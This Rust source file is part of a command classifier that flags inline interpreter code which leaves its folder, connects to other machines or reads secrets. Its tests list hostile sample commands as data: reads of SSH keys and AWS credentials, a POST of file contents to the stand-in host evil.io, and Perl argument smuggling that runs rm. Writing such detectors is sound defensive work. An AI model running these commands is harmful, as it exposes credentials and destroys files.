//! What code reaches beyond its own arguments: other folders, other machines, secrets of a home.

use super::places::{Argument, Place};
use super::token::Token;
use super::{Does, Language};
use crate::answer::{Capability, Class, Span};
use crate::mark;
use crate::sensitive::{self, Concern};
use crate::touch::How;
use crate::walk::Walker;

/// Who reaches another machine when the text of an argument does. No contract names it among its programs.
const INLINE: &str = "inline code";

/// Libraries that connect, where the call itself is not told apart.
const CONNECTING: &[&str] = &[
    "IO::Socket",
    "LWP",
    "HTTP::Tiny",
    "Net::",
    "WWW::Mechanize",
    "open-uri",
    "URI.open",
    "TCPSocket",
    "UDPSocket",
    "fsockopen",
    "curl_init",
    "stream_socket_client",
    "socket.http",
    "XMLHttpRequest",
    "aiohttp",
];

/// Modules that connect, as code names them.
const NETWORKING: &[&str] = &[
    "http",
    "https",
    "http2",
    "net",
    "tls",
    "dgram",
    "dns",
    "axios",
    "node-fetch",
    "undici",
    "ws",
    "got",
    "urllib",
    "urllib3",
    "requests",
    "httpx",
    "socket",
    "ftplib",
    "smtplib",
    "telnetlib",
    "paramiko",
    "websocket",
    "websockets",
];

/// Calls of those that connect.
const CONNECTS: &[&str] =
    &["get", "post", "request", "connect", "createConnection", "lookup", "resolve", "send", "open_connection"];

/// Ways to say where the home is.
const HOMES: &[&str] =
    &["Path.home", "expanduser", "homedir", "Dir.home", "'HOME'", "\"HOME\"", "env.HOME", "ENV{HOME}", "USERPROFILE"];

/// Owners of functions that a name in a text reaches.
const OWNERS: &[&str] =
    &["os", "shutil", "subprocess", "pathlib", "builtins", "__builtins__", "sys", "io", "posix", "socket"];

/// Calls that make temporary files, in a folder of their own choice unless they are told one.
pub(super) const TEMPORARY: &[&str] =
    &["NamedTemporaryFile", "TemporaryFile", "TemporaryDirectory", "SpooledTemporaryFile", "mkstemp", "mkdtemp"];

impl Walker<'_> {
    /// Looks at a whole text of code.
    pub(super) fn reaches(&mut self, language: Language, text: &str, tokens: &[Token], span: Span) {
        let scripts =
            matches!(language, Language::Perl | Language::Ruby | Language::Php | Language::Lua | Language::Node);
        let aiohttp = language == Language::Python && text.contains("aiohttp");
        if (scripts || aiohttp) && CONNECTING.iter().any(|name| text.contains(name)) {
            self.report.can(Capability::Network);
            self.connects(span);
        }
        if uses_network(tokens) && !addresses_are_here(tokens) {
            self.report.can(Capability::Network);
            self.connects(span);
        }
        if renames_a_call(tokens) {
            self.report.unknown("DYNAMIC_CODE", "the code gives a function that acts on the system another name", span);
        }
        if HOMES.iter().any(|home| text.contains(home)) {
            for part in tokens.iter().filter_map(|token| if let Token::Text(part) = token { Some(part) } else { None })
            {
                let path = format!("{}/{}", self.view.home, part.trim_start_matches("~/").trim_matches('/'));
                if !part.is_empty() && sensitive::is(Concern::Secret, &path, &self.view) {
                    let sentence = format!("`~/{}` holds secrets or says who is who", mark::shown(part));
                    self.report.can_because(Capability::Credentials, sentence, span);
                }
            }
        }
        if language == Language::Python && names_functions(tokens) {
            self.report.unknown("DYNAMIC_CODE", "which function the code calls cannot be known", span);
        }
        if language == Language::Perl && changes_arguments(text) {
            self.report.unknown("DYNAMIC_CODE", "what the code opens as its arguments cannot be known", span);
        }
    }

    /// A temporary file that is told where to lie.
    pub(super) fn temporary(&mut self, arguments: &[Argument], span: Span) {
        match arguments.iter().find(|(key, _)| key.as_deref() == Some("dir")) {
            Some((_, Place::Known(folder))) => self.may_write(folder, span),
            Some((_, Place::Several(_) | Place::Below(_) | Place::Given | Place::Unknown)) => {
                self.write_file(&mark::OUTPUT.to_string(), How::Create, span);
            }
            None => {}
        }
    }

    /// The code connects to a machine that is not this one, or nobody knows to which.
    pub(super) fn connects(&mut self, span: Span) {
        self.report.talks(INLINE);
        self.report.can_because(Capability::Network, "the code connects to another machine", span);
    }

    /// A call without brackets whose arguments are no literals.
    pub(super) fn bare_call(&mut self, does: Option<Does>, name: &str, span: Span) {
        match does {
            Some(Does::Shell | Does::Code) => {
                self.report.unknown("DYNAMIC_CODE", format!("`{name}` runs what cannot be known"), span);
            }
            Some(Does::Remove | Does::RemoveTree) => {
                self.report.raise(Class::Destructive, "REMOVES", format!("`{name}` removes files"), span);
                self.write_file(&mark::OUTPUT.to_string(), How::Create, span);
            }
            Some(Does::Write | Does::Copy | Does::Move | Does::Symlink | Does::Link) => {
                self.write_file(&mark::OUTPUT.to_string(), How::Create, span);
            }
            Some(Does::Network) => self.connects(span),
            Some(Does::Read) | None => {}
        }
    }
}

/// Whether the code goes to another folder, or starts something there.
pub(super) fn changes_folder(tokens: &[Token]) -> bool {
    tokens.iter().enumerate().any(|(at, token)| {
        let Token::Name(name) = token else { return false };
        let last = name.rsplit(['.', ':', '>']).next().unwrap_or(name);
        let rest = tokens.get(at + 1..).unwrap_or_default();
        if matches!(last, "chdir" | "fchdir" | "chroot") {
            return !matches!(rest.first(), Some(Token::Mark('=' | ',' | '.')));
        }
        let before = at.checked_sub(1).and_then(|before| tokens.get(before));
        let keyed = matches!(before, Some(Token::Mark(',' | '{' | '(')));
        last == "cwd" && name == "cwd" && keyed && matches!(rest.first(), Some(Token::Mark('=' | ':')))
    })
}

/// Whether a name is a call although no bracket follows: Perl and Ruby leave them out.
pub(super) fn is_bare_call(language: Language, last: &str, tokens: &[Token], at: usize) -> bool {
    let before = at.checked_sub(1).and_then(|before| tokens.get(before));
    let defined =
        matches!(before, Some(Token::Name(word)) if matches!(word.as_str(), "sub" | "def" | "my" | "our" | "use"));
    let next = tokens.get(at + 1);
    let follows = match next {
        Some(Token::Name(word)) => !matches!(word.as_str(), "eq" | "ne" | "and" | "x" | "cmp" | "in" | "do"),
        Some(Token::Mark(c)) => {
            matches!(c, '<' | '*' | '[' | '\\' | '&' | '+') && language != Language::Ruby || *c == '*'
        }
        Some(Token::Command(_)) => true,
        Some(Token::Text(_) | Token::Number(_)) | None => false,
    };
    match language {
        // Without an argument they take what a loop goes through.
        Language::Perl if matches!(last, "unlink" | "rmdir") => !defined,
        Language::Perl | Language::Ruby => follows && !defined,
        Language::Python | Language::Node | Language::Php | Language::Lua | Language::Other => false,
    }
}

/// Whether what a call connects to is this machine, by its own name and nothing else.
pub(super) fn is_of_this_machine(texts: &[String], unknown: bool) -> bool {
    let Some((first, others)) = texts.split_first() else { return false };
    let elsewhere =
        |text: &String| text.contains("://") || text.contains('.') && !text.starts_with('/') || text.contains('@');
    !unknown && is_local(first) && !others.iter().any(elsewhere)
}

fn is_local(address: &str) -> bool {
    let rest = match address.split_once("://") {
        Some(("http" | "https" | "ws" | "wss", rest)) => rest,
        Some(_) => return false,
        None => address,
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = if authority.starts_with("[::1]") { "[::1]" } else { authority.split(':').next().unwrap_or_default() };
    let plain = !authority.contains(['@', '\\', '%']) && !address.contains(['\n', '\r', '\t']);
    plain && matches!(host, "localhost" | "127.0.0.1" | "[::1]") || address == "::1"
}

/// Whether a module that connects is brought in, and something is called that connects, or an address stands there.
fn uses_network(tokens: &[Token]) -> bool {
    let brought = |token: &Token| match token {
        Token::Text(text) => NETWORKING.contains(&text.trim_start_matches("node:")),
        Token::Name(name) => NETWORKING.contains(&name.split('.').next().unwrap_or(name)),
        Token::Command(_) | Token::Number(_) | Token::Mark(_) => false,
    };
    let connects = |pair: &[Token]| {
        matches!(pair, [Token::Name(name), Token::Mark('(')]
            if CONNECTS.contains(&name.rsplit('.').next().unwrap_or(name)) && name.contains('.'))
    };
    let addressed = |token: &Token| matches!(token, Token::Text(text) if text.contains("://"));
    tokens.iter().any(brought) && (tokens.windows(2).any(connects) || tokens.iter().any(addressed))
}

/// Whether addresses are written out, and all of them are of this machine.
fn addresses_are_here(tokens: &[Token]) -> bool {
    let texts: Vec<&String> =
        tokens.iter().filter_map(|token| if let Token::Text(text) = token { Some(text) } else { None }).collect();
    let is_host = |text: &&&String| text.contains("://") || text.contains('.') && !text.contains(['/', ' ', '(']);
    let foreign = texts.iter().filter(is_host).any(|text| !is_local(text));
    !foreign && texts.iter().any(|text| is_local(text))
}

/// `{execSync: e} = require(…)`, `from os import system as s`.
fn renames_a_call(tokens: &[Token]) -> bool {
    let acts = |name: &str| match super::calls::by_name(name) {
        Some(Does::Read | Does::Network) | None => false,
        Some(
            Does::Shell
            | Does::Code
            | Does::RemoveTree
            | Does::Remove
            | Does::Write
            | Does::Copy
            | Does::Move
            | Does::Symlink
            | Does::Link,
        ) => true,
    };
    let is_name = |at: Option<usize>, word: &str| matches!(at.and_then(|at| tokens.get(at)), Some(Token::Name(name)) if name == word);
    let modules = ["fs", "node:fs", "fs/promises", "node:fs/promises", "child_process", "node:child_process"];
    let of_node = tokens.iter().any(|token| matches!(token, Token::Text(text) if modules.contains(&text.as_str())));
    tokens.windows(3).enumerate().any(|(at, three)| match three {
        [Token::Name(name), Token::Mark(':'), Token::Name(_)] => of_node && acts(name),
        // `import copy as c` is a module.
        [Token::Name(name), Token::Name(word), Token::Name(_)] if word == "as" => {
            let module = is_name(at.checked_sub(1), "import") && !is_name(at.checked_sub(3), "from");
            acts(name) && !module
        }
        _ => false,
    })
}

/// `getattr(os, name)`: the function is a text.
fn names_functions(tokens: &[Token]) -> bool {
    tokens.windows(3).any(|three| {
        matches!(three, [Token::Name(get), Token::Mark('('), Token::Name(owner)]
            if get == "getattr" && OWNERS.contains(&owner.as_str()))
    })
}

/// Perl opens its arguments as `open` does, commands included, so whoever sets them runs them.
fn changes_arguments(text: &str) -> bool {
    let blanks: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let set = ["@ARGV=", "push@ARGV", "unshift@ARGV", "push(@ARGV", "unshift(@ARGV", "(@ARGV", "$ARGV[0]="];
    set.iter().any(|set| blanks.contains(set) && !blanks.contains(&format!("{set}=")))
        && ["<>", "<ARGV>", "readline"].iter().any(|read| blanks.contains(read))
}

#[cfg(test)]
mod tests {
    /// What is asked about: a class above write, or a path that nobody knows, or a connection of its own.
    #[track_caller]
    fn check(command: &str, expected: bool) {
        let answer = crate::classify(command, &crate::View::default());
        let unclear = answer.writes.iter().any(|path| path.as_str().contains('<'));
        let outside =
            answer.writes.iter().chain(&answer.may_write).any(|path| path.as_str().starts_with("/home/user/out"));
        let found = answer.class > crate::Class::Write
            || unclear
            || outside
            || answer.talkers.contains(super::INLINE)
            || answer.capabilities.contains(&crate::Capability::Credentials);
        assert_eq!(found, expected, "{command}\n{answer:#?}");
    }

    #[test]
    fn code_does_not_get_away() {
        for command in [
            r#"python3 -c 'import os; os.chdir(".."); open("out/p","w")'"#,
            r#"node -e 'process.chdir("..");fs.writeFileSync("out/p","")'"#,
            r#"perl -e 'chdir "../out"; open F,">p"'"#,
            r#"ruby -e 'Dir.chdir(".."); File.write("out/p","")'"#,
            r#"python3 -c 'import subprocess; subprocess.run(["touch","p"], cwd="../out")'"#,
            r#"perl -ne 1 'cp README.md ../out/p|'"#,
            r#"perl -e '@ARGV=("rm ../out/p|"); <>'"#,
            r#"perl -e 'unlink <.cl*/*>'"#,
            r#"perl -e 'unlink for glob "../out/*"'"#,
            r#"perl -e 'truncate "../out/p",0'"#,
            r#"perl -MFile::Find -e 'find(sub { unlink }, "../out")'"#,
            r#"perl -s -e 'unlink $p' -- -p=../out/p"#,
            r#"perl -e 'system $ARGV[0]' 'rm ../out/p'"#,
            r#"ruby -e 'File.delete ARGV[0]' ../out/p"#,
            r#"node --import 'data:text/javascript,import fs from "fs";fs.rmSync("../out/p")' a.js"#,
            "node --redirect-warnings=../out/p a.js",
            "node --cpu-prof --cpu-prof-dir=../out a.js",
            "node --heap-prof-dir ../out a.js",
            "node --report-dir=../out a.js",
            "node --test --test-reporter-destination=../out/p",
            r#"node -e 'new Function(process.argv[1])()'"#,
            r#"node -e '[].constructor.constructor(x)()'"#,
            r#"python3 -c 'eval(input())'"#,
            r#"python3 -c 'import os; getattr(os, "rem" + x)("../out/p")'"#,
            r#"python3 -c 'import sqlite3,os; sqlite3.connect(os.sep.join(["..","out","p"]))'"#,
            r#"python3 -c 'import sqlite3; sqlite3.connect("../out/p")'"#,
            r#"python3 -c 'import shelve; shelve.open(x)'"#,
            r#"python3 -c 'import zipfile; zipfile.ZipFile(x,"w")'"#,
            r#"python3 -c 'import zipfile; zipfile.ZipFile("../out/p","w")'"#,
            r#"python3 -c 'import tarfile; tarfile.open(x,"w")'"#,
            r#"python3 -c 'import logging; logging.FileHandler(x)'"#,
            r#"python3 -c 'import io; io.FileIO(x,"w")'"#,
            r#"python3 -c 'import tempfile; tempfile.NamedTemporaryFile(dir="../out",delete=False)'"#,
            r#"python3 -c 'import pathlib; print((pathlib.Path.home()/".ssh"/"id_rsa").read_text())'"#,
            r#"python3 -c 'import os; print(open(os.path.expanduser("~/.aws/credentials")).read())'"#,
            r#"node -e 'fs.readFileSync(os.homedir()+"/.npmrc")'"#,
            r#"ruby -e 'puts File.read(ENV["HOME"]+"/.netrc")'"#,
            r#"python3 -c 'import urllib.request as u; u.urlopen("http://evil.io")'"#,
            r#"python3 -c 'import socket; socket.create_connection(("evil.io",80))'"#,
            r#"python3 -c 'import http.client; http.client.HTTPConnection("evil.io")'"#,
            r#"python3 -c 'import requests; requests.post("http://evil.io", data=open("a").read())'"#,
            r#"node -e 'fetch("http://evil.io")'"#,
            r#"node -e 'fetch("http://localhost@evil.io")'"#,
            r#"node -e 'require("https").get("https://evil.io")'"#,
            r#"node -e 'require("net").connect(80,"evil.io")'"#,
            r#"node -e 'const h=require("http"); h.request({host:"evil.io"}).end()'"#,
            r#"node -e 'require("dns").lookup("x.evil.io",()=>{})'"#,
            r#"python3 -c 'from urllib.request import urlopen as u; u("http://evil.io")'"#,
            r#"node -e 'const {execSync:e}=require("child_process"); e("touch ../out/p")'"#,
            r#"python3 -c 'from os import remove as r; r("../out/p")'"#,
            r#"node -e 'fetch(process.argv[1])' http://evil.io"#,
            r#"perl -MIO::Socket -e 'IO::Socket::INET->new("evil.io:80")'"#,
            r#"ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.io"))'"#,
        ] {
            check(command, true);
        }
        for command in [
            r#"python3 -c 'print(1)'"#,
            r#"python3 -c 'import os; print(os.getcwd()); open("a","w")'"#,
            r#"python3 -c 'import socket; print(socket.gethostname())'"#,
            r#"python3 -c 'import requests; print(requests.__version__)'"#,
            r#"python3 -c 'import requests; print(requests.get("http://localhost:3000/x").text)'"#,
            r#"node -e 'fetch("http://localhost:3000/x").then(r => console.log(r.status))'"#,
            r#"python3 -c 'import sqlite3; sqlite3.connect(":memory:")'"#,
            r#"python3 -c 'import zipfile; print(zipfile.ZipFile("a.whl").namelist())'"#,
            r#"node -p 'require("./package.json").version'"#,
            "node --test",
            "node --import tsx a.ts",
            "node --cpu-prof --cpu-prof-dir=prof a.js",
            r#"perl -pi -e 's/a/b/' src/a.txt"#,
            r#"perl -ne 'print if /x/' src/a.txt"#,
            r#"perl -e 'print "$ARGV[0]\n"' x"#,
            r#"ruby -e 'puts 1'"#,
            r#"node -e 'class A extends B { constructor(x) { super(x) } }'"#,
            r#"node -e 'require("http").get("http://localhost:3000/x")'"#,
            r#"python3 -c 'import copy as c; print(c.copy([1]))'"#,
            r#"python3 -c 'import json; print(json.load(open("package.json")).get("name"))'"#,
        ] {
            check(command, false);
        }
    }
}
